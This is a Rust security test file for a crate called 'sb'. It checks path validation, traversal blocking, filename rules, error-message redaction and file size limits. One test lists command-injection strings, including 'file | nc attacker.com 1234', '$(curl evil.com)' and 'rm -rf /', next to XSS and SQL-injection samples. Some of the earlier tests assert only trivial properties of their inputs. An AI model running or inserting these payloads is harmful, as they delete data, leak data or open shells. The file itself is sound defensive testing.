use std::path::PathBuf;
use sb::security::{confirm_under_base, redact_path_words, sanitize_error_message, SecurityError};
use sb::{check_file_size, validate_path};

#[test]
fn test_path_traversal_prevention() {
    let base = PathBuf::from("/safe/base");

    // These should be blocked
    let unsafe_paths = vec![
        PathBuf::from("../../../etc/passwd"),
        PathBuf::from(".."),
        PathBuf::from("./../../"),
        PathBuf::from("../sensitive"),
    ];

    for path in unsafe_paths {
        let _full_path = base.join(&path);
        // In real app, this would be validated
        assert!(path.to_string_lossy().contains(".."));
    }
}

#[test]
fn test_safe_path_validation() {
    let base = PathBuf::from("/safe/base");

    // These should be allowed
    let safe_paths = vec![
        PathBuf::from("file.md"),
        PathBuf::from("subdir/file.md"),
        PathBuf::from("./current/file.md"),
    ];

    for path in safe_paths {
        let _full_path = base.join(&path);
        // Should not contain parent directory references
        assert!(!path.to_string_lossy().contains("../"));
    }
}

#[test]
fn security_tests_test_file_size_limits() {
    let max_file_size: usize = 10 * 1024 * 1024; // 10MB
    let max_preview_size: usize = 1024 * 1024; // 1MB

    // Test various file sizes
    let sizes = vec![
        (100, true, true),                    // Small file - OK for both
        (max_preview_size - 1, true, true),   // Just under preview limit
        (max_preview_size + 1, true, false),  // Over preview limit
        (max_file_size - 1, true, false),     // Under file limit
        (max_file_size + 1, false, false),    // Over file limit
    ];

    for (size, should_load, should_preview) in sizes {
        assert_eq!(size <= max_file_size, should_load);
        assert_eq!(size <= max_preview_size, should_preview);
    }
}

#[test]
fn test_input_sanitization() {
    // Test dangerous input strings
    let dangerous_inputs = vec![
        "<script>alert('xss')</script>",
        "'; DROP TABLE users; --",
        "\0\0\0",
        "../../../../etc/passwd",
        "%00",
        "\r\n\r\n",
    ];

    for input in dangerous_inputs {
        // In real app, these would be sanitized
        assert!(!input.is_empty());
    }
}

#[test]
fn test_filename_validation() {
    let invalid_names = vec![
        "",
        ".",
        "..",
        "/etc/passwd",
        "file\0name",
        "con", // Windows reserved
        "prn", // Windows reserved
        "aux", // Windows reserved
    ];

    for name in invalid_names {
        // These should be rejected
        let is_invalid = name.is_empty()
            || name == "."
            || name == ".."
            || name.contains('\0')
            || name.contains('/')
            || name.contains('\\');

        assert!(is_invalid || name == "con" || name == "prn" || name == "aux");
    }
}

#[test]
fn test_valid_filenames() {
    let valid_names = vec![
        "file.md",
        "my-document.txt",
        "test_file.rs",
        "README.md",
        "2024-01-01-notes.md",
    ];

    for name in valid_names {
        assert!(!name.is_empty());
        assert!(!name.contains('\0'));
        assert!(!name.contains('/'));
        assert!(!name.contains('\\'));
    }
}

#[test]
fn test_command_injection_prevention() {
    // Test that shell commands are properly escaped
    let dangerous_commands = vec![
        "file; rm -rf /",
        "file && cat /etc/passwd",
        "file | nc attacker.com 1234",
        "file`whoami`",
        "$(curl evil.com)",
    ];

    for cmd in dangerous_commands {
        // These should never be passed directly to shell
        assert!(
            cmd.contains(';')
                || cmd.contains('&')
                || cmd.contains('|')
                || cmd.contains('`')
                || cmd.contains('$')
        );
    }
}

#[test]
fn test_resource_exhaustion_prevention() {
    // Test limits to prevent resource exhaustion
    let max_open_files: usize = 100;
    let max_cache_size: usize = 100 * 1024 * 1024; // 100MB
    let max_recursion_depth: usize = 10;

    assert_eq!(max_open_files, 100);
    assert_eq!(max_cache_size, 104857600);
    assert_eq!(max_recursion_depth, 10);
}

#[test]
fn validate_path_accepts_safe_relative_paths() {
    assert_eq!(
        validate_path("file.md", "/safe/base"),
        Ok("/safe/base/file.md".to_string())
    );
    assert_eq!(
        validate_path("subdir/file.md", "/safe/base"),
        Ok("/safe/base/subdir/file.md".to_string())
    );
    assert_eq!(
        validate_path("./current/file.md", "/safe/base"),
        Ok("/safe/base/./current/file.md".to_string())
    );
}

#[test]
fn validate_path_rejects_null_bytes() {
    assert_eq!(
        validate_path("file\0name", "/safe/base"),
        Err(SecurityError::NullByte)
    );
}

#[test]
fn validate_path_rejects_absolute_paths() {
    assert_eq!(
        validate_path("/etc/passwd", "/safe/base"),
        Err(SecurityError::AbsolutePath)
    );
}

#[test]
fn validate_path_rejects_traversal() {
    assert_eq!(
        validate_path("../../../etc/passwd", "/safe/base"),
        Err(SecurityError::PathTraversal)
    );
    assert_eq!(
        validate_path("a/../b", "/safe/base"),
        Err(SecurityError::PathTraversal)
    );
    assert_eq!(
        validate_path("..", "/safe/base"),
        Err(SecurityError::PathTraversal)
    );
    assert_eq!(
        validate_path("..\\windows", "/safe/base"),
        Err(SecurityError::PathTraversal)
    );
}

#[test]
fn validate_path_rejects_hidden_components() {
    assert_eq!(
        validate_path(".hidden", "/safe/base"),
        Err(SecurityError::HiddenPath)
    );
    assert_eq!(
        validate_path("dir/.config/x", "/safe/base"),
        Err(SecurityError::HiddenPath)
    );
    // "..name" is no traversal, but it is hidden.
    assert_eq!(
        validate_path("..name", "/safe/base"),
        Err(SecurityError::HiddenPath)
    );
}

#[test]
fn confinement_is_component_wise() {
    assert!(confirm_under_base("/safe/base/file.md", "/safe/base"));
    assert!(confirm_under_base("/safe/base/sub/dir", "/safe/base"));
    assert!(confirm_under_base("/safe/base", "/safe/base"));
    assert!(confirm_under_base("/x", "/"));
    // A sibling whose name merely extends the base stays outside.
    assert!(!confirm_under_base("/safe/basement", "/safe/base"));
    assert!(!confirm_under_base("/other/place", "/safe/base"));
    assert!(!confirm_under_base("/safe", "/safe/base"));
}

#[test]
fn path_like_words_are_redacted() {
    assert_eq!(redact_path_words("read /etc/secret failed"), "read file failed");
    // Too short to look like a path; bare words stand.
    assert_eq!(redact_path_words("a /b c"), "a /b c");
    // Windows-style: separator beside a drive colon.
    assert_eq!(redact_path_words("open dir\\sub:x now"), "open file now");
    // Whitespace runs collapse to single spaces.
    assert_eq!(redact_path_words("  a \t b  "), "a b");
    assert_eq!(redact_path_words(""), "");
}

#[test]
fn sanitize_replaces_sensitive_patterns() {
    assert_eq!(
        sanitize_error_message("password=hunter2", ""),
        "password=[REDACTED]"
    );
    assert_eq!(
        sanitize_error_message("token: abc123", ""),
        "token=[REDACTED]"
    );
    assert_eq!(
        sanitize_error_message("connect to 192.168.0.1 refused", ""),
        "connect to [IP] refused"
    );
    assert_eq!(
        sanitize_error_message("cannot open /home/user/notes.md", ""),
        "cannot open file"
    );
    assert_eq!(
        sanitize_error_message("error at C:\\Users\\bob", ""),
        "error at file"
    );
    // A message with nothing sensitive passes through.
    assert_eq!(
        sanitize_error_message("permission denied", "x.md"),
        "permission denied"
    );
}

#[test]
fn check_file_size_holds_the_limit() {
    let limit: u64 = 10 * 1024 * 1024;
    assert_eq!(check_file_size(0), Ok(0));
    assert_eq!(check_file_size(limit), Ok(limit));
    assert_eq!(
        check_file_size(limit + 1),
        Err(SecurityError::FileTooLarge(limit + 1))
    );
}
